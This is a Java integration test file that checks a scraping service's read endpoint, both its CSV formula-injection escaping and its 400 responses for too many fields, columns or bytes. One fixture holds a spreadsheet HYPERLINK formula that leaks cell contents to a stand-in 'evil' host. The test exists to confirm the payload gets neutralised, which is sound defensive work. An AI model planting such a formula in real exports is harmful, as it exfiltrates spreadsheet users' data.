package io.scrapr.endpoint;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.scrapr.common.json.Json;
import io.scrapr.testkit.http.TestHttp;
import io.scrapr.testkit.http.TestHttp.Response;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * What a hostile collection or query cannot do to the read side: run formulas in a spreadsheet that
 * opens the CSV, or make one request render an unbounded answer.
 */
class ReadBoundsIT {
  private static final String HYPERLINK = "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")";

  @RegisterExtension static final EndpointPeers peers = new EndpointPeers("bounds");

  @Test
  void csv_cells_a_spreadsheet_would_run_are_neutralised_and_json_and_xml_stay_as_scraped() {
    List<ObjectNode> items = new ArrayList<>();
    for (String title : List.of(HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok")) {
      items.add(Json.mapper().createObjectNode().put("title", title).put("n", -5));
    }
    TestHttp http = serve(items);

    Response csv = http.get("/?format=csv&limit=10");
    JsonNode json = http.get("/?limit=10").json();
    String xml = http.get("/?format=xml&limit=1").text();

    assertThat(csv.status()).isEqualTo(200);
    assertThat(csv.text())
        .isEqualTo(
            "title,n\r\n"
                + "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\",-5\r\n"
                + "\"'+1+2\",-5\r\n"
                + "\"'-2+3\",-5\r\n"
                + "\"'@SUM(A1)\",-5\r\n"
                + "\"'\tx\",-5\r\n"
                + "\"'\rx\",-5\r\n"
                + "ok,-5\r\n");
    assertThat(json.path("items").get(0).path("title").asText()).isEqualTo(HYPERLINK);
    assertThat(xml).contains("<title>=HYPERLINK(\"http://evil/?x=\"&amp;A1,\"click\")</title>");
  }

  @Test
  void more_than_a_hundred_field_names_get_a_400_naming_the_parameter() {
    TestHttp http = serve(SampleItems.books(3));
    String names =
        IntStream.rangeClosed(1, 101).mapToObj(i -> "f" + i).collect(Collectors.joining(","));

    Response fields = http.get("/?fields=" + names);
    Response omit = http.get("/?omit=" + names);
    Response hundred = http.get("/?fields=title," + names.substring(names.indexOf(",f3,") + 1));

    assertThat(fields.status()).isEqualTo(400);
    assertThat(fields.header("Content-Type")).contains("application/problem+json");
    assertThat(errorFields(fields.json())).containsExactly("fields");
    assertThat(fields.json().path("errors").get(0).path("message").asText()).contains("100");
    assertThat(errorFields(omit.json())).containsExactly("omit");
    assertThat(hundred.status()).isEqualTo(200);
  }

  @Test
  void a_csv_of_more_than_two_hundred_columns_gets_a_400_suggesting_fields() {
    ObjectNode wide = Json.mapper().createObjectNode();
    for (int i = 1; i <= 250; i++) {
      wide.put("f" + i, i);
    }
    TestHttp http = serve(List.of(wide));

    Response csv = http.get("/?format=csv");
    Response narrowed = http.get("/?format=csv&fields=f1,f250");

    assertThat(csv.status()).isEqualTo(400);
    assertThat(errorFields(csv.json())).containsExactly("fields");
    assertThat(csv.json().path("errors").get(0).path("message").asText())
        .contains("250 fields")
        .contains("200 columns")
        .contains("fields=");
    assertThat(narrowed.status()).isEqualTo(200);
    assertThat(narrowed.text()).isEqualTo("f1,f250\r\n1,250\r\n");
    assertThat(http.get("/").status()).isEqualTo(200);
  }

  @Test
  void
      a_csv_or_xml_answer_of_more_than_8_mib_gets_a_400_naming_limit_and_a_smaller_page_is_served() {
    String kilobyte = "x".repeat(1024);
    List<ObjectNode> items = new ArrayList<>();
    for (int i = 0; i < 10_000; i++) {
      items.add(Json.mapper().createObjectNode().put("n", i).put("text", kilobyte));
    }
    TestHttp http = serve(items);

    Response whole = http.get("/?format=csv&limit=10000");
    Response part = http.get("/?format=csv&limit=5000");

    assertThat(whole.status()).isEqualTo(400);
    assertThat(errorFields(whole.json())).containsExactly("limit");
    assertThat(whole.json().path("errors").get(0).path("message").asText())
        .contains("8 MiB")
        .contains("limit=");
    assertThat(part.status()).isEqualTo(200);
    assertThat(part.body().length).isLessThan(8 * 1024 * 1024);

    Response xml = http.get("/?format=xml&limit=10000");
    assertThat(xml.status()).isEqualTo(400);
    assertThat(errorFields(xml.json())).containsExactly("limit");
    assertThat(http.get("/?format=xml&limit=5000").status()).isEqualTo(200);
  }

  private TestHttp serve(List<ObjectNode> items) {
    peers.datasource().put(peers.collection(), items);
    TestHttp http = peers.startEndpoint(60).http();
    await()
        .atMost(Duration.ofSeconds(15))
        .until(
            () -> http.get("/?limit=0"),
            r -> r.status() == 200 && r.json().path("total").asInt() == items.size());
    return http;
  }

  private static List<String> errorFields(JsonNode problem) {
    return StreamSupport.stream(problem.path("errors").spliterator(), false)
        .map(e -> e.path("field").asText())
        .toList();
  }
}
